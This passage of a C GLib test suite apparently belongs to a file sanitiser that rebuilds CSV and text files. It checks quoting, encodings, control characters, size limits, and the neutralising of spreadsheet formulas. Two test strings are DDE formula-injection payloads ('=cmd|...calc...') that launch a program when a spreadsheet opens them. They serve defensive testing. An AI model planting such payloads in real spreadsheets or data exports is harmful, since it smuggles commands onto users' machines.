				g_assert_cmpuint(i, <, n);
				if (s[i] == '"') {
					if (i + 1 < n && s[i + 1] == '"') {
						g_string_append_c(v, '"');
						i++;
						continue;
					}
					i++;
					break;
				}
				g_string_append_c(v, s[i]);
			}
			/* Canonical: the field ends at its closing quote. */
			g_assert_true(i == n || s[i] == ',' || s[i] == '\r' ||
			              s[i] == '\n');
		} else {
			for (; i < n && s[i] != ',' && s[i] != '\r' &&
			       s[i] != '\n';
			     i++) {
				g_assert_cmpint(s[i], !=, '"');
				g_string_append_c(v, s[i]);
			}
		}
		g_ptr_array_add(row, g_strndup(v->str, v->len));
		if (i < n && s[i] == ',') {
			i++;
			if (i == n)
				g_ptr_array_add(row, g_strdup(""));
			continue;
		}
		if (i < n && s[i] == '\r')
			i++;
		if (i < n && s[i] == '\n')
			i++;
		g_ptr_array_add(rows, row);
		row = NULL;
	}
	if (row != NULL)
		g_ptr_array_add(rows, row);
	g_string_free(v, TRUE);
	return rows;
}

static const char *
cell(GPtrArray *rows, guint r, guint c)
{
	GPtrArray *row;

	g_assert_cmpuint(r, <, rows->len);
	row = g_ptr_array_index(rows, r);
	g_assert_cmpuint(c, <, row->len);
	return g_ptr_array_index(row, c);
}

/* Rebuild CSV; check the BOM and the MIME type; return the body after
 * the BOM. */
static char *
rebuild_csv(const char *in, gsize len, gboolean expect_formulas, gsize *n_r)
{
	struct mg_cdr_result r;
	const char *p;
	gsize n;
	char *o;

	run(&mg_cdr_csv, in, len, FALSE, &r);
	g_assert_cmpint(r.outcome, ==, MG_CDR_REBUILT);
	g_assert_cmpstr(r.mime_type, ==, "text/csv; charset=utf-8");
	g_assert_cmpint(removed(&r, MG_CDR_RM_FORMULAS), ==, expect_formulas);
	p = g_bytes_get_data(r.data, &n);
	g_assert_cmpuint(n, >=, 3);
	g_assert_cmpmem(p, 3, "\xef\xbb\xbf", 3);
	g_assert_true(g_utf8_validate(p, n, NULL));
	o = g_strndup(p + 3, n - 3);
	*n_r = n - 3;
	mg_cdr_result_clear(&r);
	return o;
}

static void
test_csv_dde_sample(void)
{
	static const char sample[] =
	    "=cmd|'/k \\..\\..\\..\\Windows\\System32\\calc.exe'!A0\r\n";
	g_autofree char *path = external("oletools/msodde/dde-in-csv.csv");
	g_autofree char *data = NULL, *o = NULL;
	gsize len, n;

	if (!g_file_get_contents(path, &data, &len, NULL)) {
		/* The same bytes, for a tree without the corpus. */
		data = g_strdup(sample);
		len = strlen(sample);
	}
	o = rebuild_csv(data, len, TRUE, &n);
	g_assert_cmpstr(o, ==,
	    "'=cmd|'/k \\..\\..\\..\\Windows\\System32\\calc.exe'!A0\r\n");
}

static void
test_csv_quoting(void)
{
	static const char in[] =
	    "name,note,amount\r\n"
	    "\"Yamada, Taro\",\"line one\r\nline two\",100\r\n"
	    "\"say \"\"hi\"\"\",a\"b,\"x\"y\r\n"
	    ",,\r\n"
	    "last,row,no newline";
	g_autofree char *o = NULL;
	GPtrArray *rows;
	gsize n;

	o = rebuild_csv(in, strlen(in), FALSE, &n);
	rows = csv_read(o, n);
	g_assert_cmpuint(rows->len, ==, 5);
	g_assert_cmpstr(cell(rows, 0, 2), ==, "amount");
	g_assert_cmpstr(cell(rows, 1, 0), ==, "Yamada, Taro");
	g_assert_cmpstr(cell(rows, 1, 1), ==, "line one\r\nline two");
	g_assert_cmpstr(cell(rows, 1, 2), ==, "100");
	g_assert_cmpstr(cell(rows, 2, 0), ==, "say \"hi\"");
	/* Excel: a quote inside an unquoted field is a character; text
	 * after a closing quote is kept. */
	g_assert_cmpstr(cell(rows, 2, 1), ==, "a\"b");
	g_assert_cmpstr(cell(rows, 2, 2), ==, "xy");
	g_assert_cmpuint(((GPtrArray *)g_ptr_array_index(rows, 3))->len, ==, 3);
	g_assert_cmpstr(cell(rows, 4, 2), ==, "no newline");
	g_ptr_array_unref(rows);
	/* The same cells in, the same bytes out: the quoting is canonical. */
	g_assert_true(
	    g_str_has_prefix(o, "name,note,amount\r\n\"Yamada, "
	                        "Taro\",\"line one\r\nline two\",100"));
	g_assert_true(g_str_has_suffix(o, "\r\n,,\r\nlast,row,no newline"));
}

static void
test_csv_formulas(void)
{
	static const char in[] = "=1+1,+1,-1,@SUM(A1),ok\n"
	                         "\" =HYPERLINK(\"\"x\"\")\",\"\t=1\",\"\r=1\","
	                         "\xef\xbc\x9d"
	                         "1,'=safe\n"
	                         "a;=cmd|'/c calc'!A0,\" \"\"=1\",3-1,x@y,\n";
	g_autofree char *o = NULL;
	GPtrArray *rows;
	gsize n;

	o = rebuild_csv(in, strlen(in), TRUE, &n);
	rows = csv_read(o, n);
	g_assert_cmpstr(cell(rows, 0, 0), ==, "'=1+1");
	g_assert_cmpstr(cell(rows, 0, 1), ==, "'+1");
	g_assert_cmpstr(cell(rows, 0, 2), ==, "'-1");
	g_assert_cmpstr(cell(rows, 0, 3), ==, "'@SUM(A1)");
	g_assert_cmpstr(cell(rows, 0, 4), ==, "ok");
	g_assert_cmpstr(cell(rows, 1, 0), ==, "' =HYPERLINK(\"x\")");
	g_assert_cmpstr(cell(rows, 1, 1), ==, "'\t=1");
	g_assert_cmpstr(cell(rows, 1, 2), ==, "'\r=1");
	g_assert_cmpstr(cell(rows, 1, 3), ==,
	    "'\xef\xbc\x9d"
	    "1");
	g_assert_cmpstr(cell(rows, 1, 4), ==, "'=safe");
	g_assert_cmpstr(cell(rows, 2, 0), ==, "a;'=cmd|'/c calc'!A0");
	g_assert_cmpstr(cell(rows, 2, 1), ==, "' \"=1");
	g_assert_cmpstr(cell(rows, 2, 2), ==, "3-1");
	g_assert_cmpstr(cell(rows, 2, 3), ==, "x@y");
	g_assert_cmpstr(cell(rows, 2, 4), ==, "");
	g_ptr_array_unref(rows);
}

static void
test_csv_shift_jis(void)
{
	static const char utf8[] =
	    "氏名,住所,電話\r\n"
	    "山田太郎,東京都千代田区霞が関１－２－３,03-1234-5678\r\n"
	    "鈴木花子,\"大阪府大阪市北区, 梅田\",06-1234-5678\r\n"
	    "髙橋①,㈱テスト,－\r\n";
	static const char expect[] =
	    "氏名,住所,電話\r\n"
	    "山田太郎,東京都千代田区霞が関１－２－３,03-1234-5678\r\n"
	    "鈴木花子,\"大阪府大阪市北区, 梅田\",06-1234-5678\r\n"
	    "髙橋①,㈱テスト,'－\r\n";
	g_autofree char *sjis = NULL, *o = NULL;
	gsize len, n;

	sjis = g_convert(utf8, -1, "CP932", "UTF-8", NULL, &len, NULL);
	g_assert_nonnull(sjis);
	o = rebuild_csv(sjis, len, TRUE, &n);
	g_assert_cmpstr(o, ==, expect);
}

static void
test_csv_sep_line(void)
{
	static const char in[] = "sep=;\r\na;b,c;=1\r\n";
	g_autofree char *o = NULL;
	gsize n;

	o = rebuild_csv(in, strlen(in), TRUE, &n);
	g_assert_cmpstr(o, ==, "a,\"b,c\",'=1\r\n");
}

static void
test_csv_controls_and_bad_bytes(void)
{
	static const char in[] = "a\x01"
	                         "b,\x1b[31mred\x7f,\"open\r\n"
	                         "\xff\xfe?";
	g_autofree char *o = NULL;
	GPtrArray *rows;
	gsize n;

	o = rebuild_csv(in, sizeof(in) - 1, FALSE, &n);
	rows = csv_read(o, n);
	g_assert_cmpstr(cell(rows, 0, 0), ==, "ab");
	g_assert_cmpstr(cell(rows, 0, 1), ==, "[31mred");
	g_ptr_array_unref(rows);
	g_free(o);
	o = rebuild_csv("", 0, FALSE, &n);
	g_assert_cmpstr(o, ==, "");
}

static char *
rebuild_text(const char *in, gsize len, gsize *n_r)
{
	struct mg_cdr_result r;
	const char *p;
	char *o;

	run(&mg_cdr_text, in, len, FALSE, &r);
	g_assert_cmpint(r.outcome, ==, MG_CDR_REBUILT);
	g_assert_cmpstr(r.mime_type, ==, "text/plain; charset=utf-8");
	g_assert_cmpuint(r.removed->len, ==, 0);
	p = g_bytes_get_data(r.data, n_r);
	g_assert_true(g_utf8_validate(p, *n_r, NULL));
	o = g_strndup(p, *n_r);
	mg_cdr_result_clear(&r);
	return o;
}

static void
test_text(void)
{
	static const char utf8[] = "件名: 会議のお知らせ\r\n"
	                           "=SUM(A1) stays as it is in text.\r\n"
	                           "- a list item\r\n";
	static const char ctl[] = "\xef\xbb\xbf"
	                          "a\tb\x00\x07\x1b[0m\r\nc";
	g_autofree char *sjis = NULL, *o = NULL, *u16 = NULL;
	gsize len, n;

	sjis = g_convert(utf8, -1, "CP932", "UTF-8", NULL, &len, NULL);
	o = rebuild_text(sjis, len, &n);
	g_assert_cmpstr(o, ==, utf8);
	g_free(o);
	/* A UTF-8 BOM goes; control characters go; TAB, CR, LF stay. */
	o = rebuild_text(ctl, sizeof(ctl) - 1, &n);
	g_assert_cmpstr(o, ==, "a\tb[0m\r\nc");
	g_free(o);
	/* UTF-16LE with a BOM, as Excel's "Unicode text". */
	u16 = g_convert("\xef\xbb\xbf"
	                "表\tA\r\n",
	    -1, "UTF-16LE", "UTF-8", NULL, &len, NULL);
	o = rebuild_text(u16, len, &n);
	g_assert_cmpstr(o, ==, "表\tA\r\n");
}

static void
test_text_limits(void)
{
	struct mg_cdr_result r;

	limits.max_part_size = 4;
	run(&mg_cdr_text, "hello", 5, FALSE, &r);
	g_assert_cmpint(r.outcome, ==, MG_CDR_REFUSED);
	g_assert_cmpint(r.reason, ==, MG_REASON_PART_TOO_LARGE);
	mg_cdr_result_clear(&r);
	run(&mg_cdr_csv, "hello", 5, FALSE, &r);
	g_assert_cmpint(r.outcome, ==, MG_CDR_REFUSED);
	mg_cdr_result_clear(&r);
	/* Within the input limit, over it once the BOM is added. */
	run(&mg_cdr_csv, "=a", 2, FALSE, &r);
	g_assert_cmpint(r.outcome, ==, MG_CDR_REFUSED);
	g_assert_cmpuint(r.removed->len, ==, 0);
	mg_cdr_result_clear(&r);
	limits.max_part_size = 0;
}

static void
test_text_bids(void)
{
	const guint8 *d = (const guint8 *)"a,b";

	g_assert_cmpint(mg_cdr_text.bid("text/plain", "txt", d, 3), >, 0);
	g_assert_cmpint(mg_cdr_text.bid("text/x-c", "txt", d, 3), >, 0);
	g_assert_cmpint(mg_cdr_text.bid("text/plain", NULL, d, 3), >, 0);
	g_assert_cmpint(mg_cdr_text.bid("text/plain", "bat", d, 3), ==, 0);
	g_assert_cmpint(mg_cdr_text.bid("text/plain", "csv", d, 3), ==, 0);
	g_assert_cmpint(mg_cdr_text.bid("text/csv", NULL, d, 3), ==, 0);
	g_assert_cmpint(
	    mg_cdr_text.bid("application/octet-stream", "txt", d, 3), ==, 0);
	g_assert_cmpint(mg_cdr_csv.bid("text/plain", "csv", d, 3), >, 0);
	g_assert_cmpint(mg_cdr_csv.bid("text/csv", "csv", d, 3), >, 0);
	g_assert_cmpint(mg_cdr_csv.bid("text/csv", NULL, d, 3), >, 0);
	g_assert_cmpint(mg_cdr_csv.bid("text/plain", "txt", d, 3), ==, 0);
	g_assert_cmpint(
	    mg_cdr_csv.bid("application/octet-stream", "csv", d, 3), ==, 0);
	/* RTF is text/rtf to libmagic: never the text module's. */
	g_assert_cmpint(mg_cdr_text.bid("text/rtf", "rtf", d, 3), ==, 0);
	g_assert_cmpint(mg_cdr_csv.bid("text/rtf", "rtf", d, 3), ==, 0);
}

int
main(int argc, char **argv)
{
	g_test_init(&argc, &argv, NULL);
	g_test_add_func("/cdr_rtf/clean", test_rtf_clean);
	g_test_add_func("/cdr_rtf/escapes_kept", test_rtf_escapes_kept);
	g_test_add_func("/cdr_rtf/object", test_rtf_object);
	g_test_add_func("/cdr_rtf/objupdate", test_rtf_objupdate);
	g_test_add_func("/cdr_rtf/datastore", test_rtf_datastore);
	g_test_add_func("/cdr_rtf/template", test_rtf_template);
	g_test_add_func("/cdr_rtf/dde", test_rtf_dde);
	g_test_add_func("/cdr_rtf/include", test_rtf_include);
	g_test_add_func("/cdr_rtf/fields_kept", test_rtf_fields_kept);
	g_test_add_func("/cdr_rtf/bin", test_rtf_bin);
	g_test_add_func("/cdr_rtf/bin_bad", test_rtf_bin_bad);
	g_test_add_func("/cdr_rtf/deep", test_rtf_deep);
	g_test_add_func("/cdr_rtf/unbalanced", test_rtf_unbalanced);
	g_test_add_func("/cdr_rtf/malformed", test_rtf_malformed);
	g_test_add_func(
	    "/cdr_rtf/destination_mid_group", test_rtf_destination_mid_group);
	g_test_add_func("/cdr_rtf/other_removals", test_rtf_other_removals);
	g_test_add_func(
	    "/cdr_rtf/instruction_rollback", test_rtf_instruction_rollback);
	g_test_add_func("/cdr_rtf/too_large", test_rtf_too_large);
	g_test_add_func("/cdr_rtf/truncated", test_rtf_truncated);
	g_test_add_func("/cdr_rtf/fuzz_cases", test_rtf_fuzz_cases);
	g_test_add_func("/cdr_rtf/bid", test_rtf_bid);
	g_test_add_func("/cdr_rtf/corpus", test_rtf_corpus);
	g_test_add_func("/cdr_text/csv_dde_sample", test_csv_dde_sample);
	g_test_add_func("/cdr_text/csv_quoting", test_csv_quoting);
	g_test_add_func("/cdr_text/csv_formulas", test_csv_formulas);
	g_test_add_func("/cdr_text/csv_shift_jis", test_csv_shift_jis);
	g_test_add_func("/cdr_text/csv_sep_line", test_csv_sep_line);
	g_test_add_func(
	    "/cdr_text/csv_controls", test_csv_controls_and_bad_bytes);
	g_test_add_func("/cdr_text/text", test_text);
	g_test_add_func("/cdr_text/limits", test_text_limits);
	g_test_add_func("/cdr_text/bids", test_text_bids);
	return g_test_run();
}
